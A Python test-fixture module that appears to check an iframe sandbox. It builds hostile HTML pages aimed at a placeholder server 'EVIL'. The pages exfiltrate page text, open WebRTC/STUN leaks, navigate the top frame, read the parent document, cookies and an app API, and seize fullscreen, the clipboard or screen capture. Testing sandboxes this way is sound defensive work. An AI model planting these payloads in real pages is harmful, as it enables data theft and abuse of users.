"""Pages that try to get out of their frame.

Each reports what it got: to the server outside, to the page around it, or aloud.

`EVIL` in a page is the address of the server outside. A page runs by itself and once more when it
is clicked.
"""

# ruff: noqa: E501 (pages read best on one line)

from __future__ import annotations

from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Iterable

BEGIN: Final = "<!doctype html><title>x</title><body style='margin:0;height:100vh'><p>hostile</p>"
RAN: Final = "<script>console.log('RAN')</script>"
"""Goes before each, so that it is known when it runs."""
TELL: Final = (
    "const told = (what) => console.log('GOT OUT: ' + what);"
    "const mark = (what) => { parent.document.documentElement.dataset.out = what; told(what); };"
)


def script(code: str, *, markup: str = "") -> str:
    """A page that runs code, each line guarded, at once and on a click."""
    return f"{BEGIN}{markup}<script>{{{TELL}async function go() {{ {code} }} go().catch(() => {{}}); addEventListener('click', () => go().catch(() => {{}}));}}</script>"


def markup(text: str) -> str:
    return BEGIN + text


STUN: Final = (
    "const c = new RTCPeerConnection({iceServers: [{urls: 'EVIL'.replace('http://', 'stun:')}]});"
    "c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))"
)
STUN_QUOTED: Final = STUN.replace("'", "\\'")

NETWORK: Final[dict[str, str]] = {
    "fetch": script("await fetch('EVIL/fetch', {mode: 'no-cors'})"),
    "xhr": script("const x = new XMLHttpRequest(); x.open('GET', 'EVIL/xhr'); x.send()"),
    "beacon": script("navigator.sendBeacon('EVIL/beacon', 'x')"),
    "websocket": script("new WebSocket('EVIL/ws'.replace('http', 'ws'))"),
    "eventsource": script("new EventSource('EVIL/es')"),
    "image": script("new Image().src = 'EVIL/img'", markup="<img src='EVIL/img2'>"),
    "style-url": markup("<style>body{background:url(EVIL/css)}</style>"),
    "style-import": markup(
        "<style>@import 'EVIL/import.css';</style><link rel=stylesheet href='EVIL/sheet.css'>"
    ),
    "font": markup(
        "<style>@font-face{font-family:f;src:url(EVIL/font)}p{font-family:f}</style><p>text in it</p>"
    ),
    "script-src": script("await import('EVIL/m.js')", markup="<script src='EVIL/s.js'></script>"),
    "link-prefetch": markup(
        "<link rel=prefetch href='EVIL/p'><link rel=preload as=image href='EVIL/q'><link rel=modulepreload href='EVIL/r'>"
    ),
    "link-icon": markup(
        "<link rel=preload as=fetch href='EVIL/i'><link rel=preload as=style href='EVIL/j'>"
    ),
    "preconnect": markup(
        "<link rel=preconnect href='EVIL'><link rel=preconnect crossorigin href='EVIL'>"
    ),
    "preconnect-late": script(
        "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'EVIL'; document.head.append(l)"
    ),
    "media": markup(
        "<video src='EVIL/v' autoplay></video><audio src='EVIL/a' autoplay></audio><video poster='EVIL/poster'></video>"
    ),
    "object": markup("<object data='EVIL/o'></object><embed src='EVIL/e'>"),
    "svg": markup("<svg><image href='EVIL/svg' width=9 height=9 /><use href='EVIL/use#x' /></svg>"),
    "base-href": script(
        "const i = new Image(); i.src = 'relative'",
        markup="<base href='EVIL/base/'><img src=other>",
    ),
    "nested-frame": markup("<iframe src='EVIL/frame'></iframe>"),
    "meta-refresh": markup("<meta http-equiv=refresh content='0;url=EVIL/refresh'>"),
    "self-navigation": script(
        "location = 'EVIL/self?' + encodeURIComponent(document.body.innerText)"
    ),
    "navigation-api": script("navigation.navigate('EVIL/nav')"),
    "self-link": script("document.querySelector('a').click()", markup="<a href='EVIL/link'>x</a>"),
    "link-ping": script(
        "document.querySelector('a').click()", markup="<a href='#x' ping='EVIL/ping'>x</a>"
    ),
    "form-self": script(
        "document.forms[0].submit()",
        markup="<form action='EVIL/form' method=post><input name=a value=b></form>",
    ),
    "form-action": script(
        "document.forms[0].requestSubmit(document.querySelector('button'))",
        markup="<form><button formaction='EVIL/fa'>x</button></form>",
    ),
    "srcdoc": markup(
        "<iframe srcdoc=\"<img src='EVIL/sd'><script>fetch('EVIL/sdf',{mode:'no-cors'});location='EVIL/sdl'</script>\"></iframe>"
    ),
    "data-frame": markup(
        "<iframe src=\"data:text/html,<img src='EVIL/df'><script>location='EVIL/dfl'</script>\"></iframe>"
    ),
    "blob-frame": script(
        "const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([`<img src='EVIL/bf'>`], {type: 'text/html'})); document.body.append(f)"
    ),
    "blob-self": script(
        "location = URL.createObjectURL(new Blob([`<script>location='EVIL/bs'</` + `script>`], {type: 'text/html'}))"
    ),
    "javascript-frame": markup("<iframe src=\"javascript:location='EVIL/jf'\"></iframe>"),
    "blob-worker": script(
        "new Worker(URL.createObjectURL(new Blob([`fetch('EVIL/w',{mode:'no-cors'})`])))"
    ),
    "speculation": markup(
        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["EVIL/spec"],"eagerness":"immediate"}]}</script>'
    ),
    "webrtc": script(
        "const c = new RTCPeerConnection({iceServers: [{urls: 'EVIL'.replace('http://', 'stun:')},"
        " {urls: 'EVIL'.replace('http://', 'turn:') + '?transport=tcp', username: 'leak', credential: 'x'}]});"
        "c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())"
    ),
    "webrtc-nested": markup(
        "<iframe srcdoc=\"<script>const c = new RTCPeerConnection({iceServers: [{urls: 'EVIL'.replace('http://', 'stun:')}]});"
        "c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))</script>\"></iframe>"
    ),
    "webrtc-shadow": markup(
        "<div><template shadowrootmode=open><iframe srcdoc=\"<script>const c = new RTCPeerConnection({iceServers: [{urls: 'EVIL'"
        ".replace('http://', 'stun:')}]}); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))</script>\">"
        "</iframe></template></div>"
    ),
    "webrtc-blank": script(
        "const f = document.createElement('iframe'); document.body.append(f);"
        "const c = new window[0].RTCPeerConnection({iceServers: [{urls: 'EVIL'.replace('http://', 'stun:')}]});"
        "c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())"
    ),
    "javascript-string": script(
        f"location = 'javascript:' + JSON.stringify(`<script>{STUN}</` + `script>`)"
    ),
    "webrtc-busy-frame": script(
        f"const f = document.createElement('iframe'); f.srcdoc = `<script>{STUN}</` + `script>`; document.body.append(f);"
        "for (const end = Date.now() + 400; Date.now() < end;) ;"
    ),
    "webrtc-own-shadow": script(
        f"const r = document.body.appendChild(document.createElement('div')).attachShadow({{mode: 'closed', clonable: true}});"
        f"const f = document.createElement('iframe'); f.srcdoc = `<script>{STUN}</` + `script>`; r.append(f);"
        "document.body.append(document.querySelector('div').cloneNode(true))"
    ),
    "webrtc-written": script(
        f"document.write('<div><template shadowroot'); document.write('mode=open><iframe srcdoc=\"<script>{STUN_QUOTED}</' + 'script>\"></iframe></template></div>')"
    ),
    "svg-script": markup(
        "<svg xmlns='http://www.w3.org/2000/svg'><script href='EVIL/ss'></script><script>fetch('EVIL/sf', {mode: 'no-cors'})</script></svg>"
    ),
    "svg-animated-link": script(
        "document.querySelector('a').dispatchEvent(new MouseEvent('click', {bubbles: true}))",
        markup="<svg><a><set attributeName=href to='EVIL/sa' /><text y=20>x</text></a></svg>",
    ),
    "style-in-svg": markup(
        "<svg><style>@import url(EVIL/sis);</style><rect fill='url(EVIL/fill#x)' width=9 height=9 /></svg>"
    ),
    "image-set": markup(
        "<style>body{background:image-set('EVIL/is' 1x);cursor:url(EVIL/cur),auto}p::before{content:url(EVIL/co)}</style>"
    ),
    "refresh-late": script(
        "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=EVIL/rl'; document.head.append(m)"
    ),
    "module-import": markup("<script type=module>import 'EVIL/mi.js'</script>"),
    "import-map": markup(
        '<script type=importmap>{"imports": {"x": "EVIL/im.js"}}</script><script type=module>import \'x\'</script>'
    ),
    "shared-worker": script(
        "new Worker('data:text/javascript,fetch(`EVIL/dw`,{mode:`no-cors`})'); new SharedWorker('EVIL/sw.js')"
    ),
    "fetch-keepalive": script(
        "addEventListener('pagehide', () => fetch('EVIL/ka', {mode: 'no-cors', keepalive: true})); await fetch('EVIL/ka2', {mode: 'no-cors', keepalive: true})"
    ),
    "report-to": markup(
        "<meta http-equiv=content-security-policy content=\"img-src 'none'; report-uri EVIL/ru\"><img src='EVIL/ri'>"
    ),
    "webtransport": script("new WebTransport('EVIL/wt'.replace('http', 'https'))"),
}
"""Each ends with something at the server outside, where nothing holds it."""

AROUND: Final[dict[str, str]] = {
    "parent-document": script("mark(parent.document.title)"),
    "top-location": script("top.location = 'EVIL/top'"),
    "parent-location": script("parent.location.href = 'EVIL/parent'"),
    "link-top": script(
        "document.querySelector('a').click()", markup="<a href='EVIL/lt' target=_top>x</a>"
    ),
    "link-parent-script": script(
        "document.querySelector('a').click()",
        markup="<a href=\"javascript:void(document.documentElement.dataset.out='js')\" target=_parent>x</a>",
    ),
    "form-top": script(
        "document.forms[0].submit()", markup="<form action='EVIL/ft' target=_top></form>"
    ),
    "window-open": script("window.open('EVIL/wo')"),
    "link-blank": script(
        "document.querySelector('a').click()", markup="<a href='EVIL/lb' target=_blank>x</a>"
    ),
    "frame-element": script("if (frameElement) mark('frameElement')"),
    "cookie": script("document.cookie = 'a=b'; told('cookie ' + document.cookie)"),
    "local-storage": script("localStorage.setItem('a', 'b'); told('storage')"),
    "indexed-db": script(
        "await new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = no; }); told('indexedDB')"
    ),
    "app-data": script(
        "const r = await fetch('/api/runs'); told('runs ' + (await r.text()).length)"
    ),
    "alert": script("alert('GOT OUT')"),
    "confirm": script("confirm('GOT OUT'); prompt('GOT OUT')"),
    "download": script(
        "document.querySelector('a').click()",
        markup="<a download=x.txt href='data:text/plain,x'>x</a>",
    ),
    "link-blank-ctrl": script(
        "document.querySelector('a').dispatchEvent(new MouseEvent('click', {ctrlKey: true, bubbles: true}))",
        markup="<a href='EVIL/ctrl' style='position:fixed;inset:0'>x</a>",
    ),
    "mail": script(
        "location = 'mailto:a@example.org'; window.open('mailto:b@example.org'); told(parent.document.title)"
    ),
    "opened-by-others": script(
        "new BroadcastChannel('x').postMessage(1); for (const w of [parent, top]) told('name ' + w.name + w.document)"
    ),
    "service-worker": script(
        "await navigator.serviceWorker.register('/sw.js').catch((e) => { if (e.name !== 'TypeError') throw e; }); told('service worker')"
    ),
}
"""Each gets at the page around it, at storage, or at the person, where nothing holds it."""

GREEDY: Final[dict[str, str]] = {
    "fullscreen": script("await document.documentElement.requestFullscreen(); told('fullscreen')"),
    "pointer-lock": script(
        "document.addEventListener('pointerlockchange', () => told('pointer lock')); await document.body.requestPointerLock()"
    ),
    "clipboard": script("await navigator.clipboard.writeText('x'); told('clipboard')"),
    "print": script("window.print(); told('print returned')").replace(
        "told('print returned')", "0"
    ),
    "beforeunload": script(
        "addEventListener('beforeunload', (e) => { e.preventDefault(); e.returnValue = 'GOT OUT'; })"
    ),
    "title": script(
        "document.title = 'GOT OUT'; window.name = 'GOT OUT'; told(top.document.title)"
    ),
    "file-dialog": markup(
        "<input type=file><script>document.querySelector('input').click()</script>"
    ),
    "speech": script(
        "const said = new SpeechSynthesisUtterance('x'); said.onstart = () => told('speech'); speechSynthesis.speak(said)"
    ),
    "wake-and-lock": script(
        "screen.orientation.lock('portrait').then(() => told('orientation'), () => {}); navigator.keyboard?.lock().then(() => told('keys'), () => {});"
        "await navigator.wakeLock.request('screen'); told('wake lock')"
    ),
    "capture": script("await navigator.mediaDevices.getDisplayMedia(); told('screen'); "),
    "memory": script(
        "window.kept = []; for (let n = 0; n < 60; n += 1) kept.push(new Uint8Array(1 << 20).fill(1))"
    ),
    "notifications": script(
        "if (await Notification.requestPermission() === 'granted') told('notices')"
    ),
    "post-message-flood": script(
        "setInterval(() => { for (let n = 0; n < 2000; n += 1) parent.postMessage({action: 'vote', choice: 'a'}, '*'); }, 10)"
    ),
}
"""Each takes what is a person's own; nothing may come of it."""

QUIET: Final = frozenset(
    (
        "fetch",
        "xhr",
        "beacon",
        "websocket",
        "eventsource",
        "image",
        "style-url",
        "style-import",
        "font",
        "script-src",
        "link-prefetch",
        "link-icon",
        "preconnect",
        "media",
        "object",
        "svg",
        "blob-frame",
        "blob-worker",
        "speculation",
        "svg-script",
        "style-in-svg",
        "module-import",
        "shared-worker",
        "fetch-keepalive",
        "webtransport",
        "parent-document",
        "top-location",
        "parent-location",
        "window-open",
        "frame-element",
        "cookie",
        "local-storage",
        "indexed-db",
        "app-data",
        "alert",
        "confirm",
        "opened-by-others",
        "service-worker",
        "fullscreen",
        "pointer-lock",
        "clipboard",
        "print",
        "notifications",
        "title",
        "speech",
        "wake-and-lock",
        "capture",
    )
)
"""Those that stand in one page with others: in a frame none of them leads it away, or takes what
another one looks for.
"""


def together(pages: Iterable[str]) -> str:
    """One page out of several."""
    return BEGIN + "".join(page.removeprefix(BEGIN) for page in pages)


BUSY: Final = script("for (;;) ;")
KEYS: Final = (
    BEGIN
    + "<input autofocus><script>addEventListener('keydown', (e) => { e.preventDefault(); e.stopPropagation(); }, true);"
    "setInterval(() => { window.focus(); document.querySelector('input').focus(); }, 20);</script>"
)
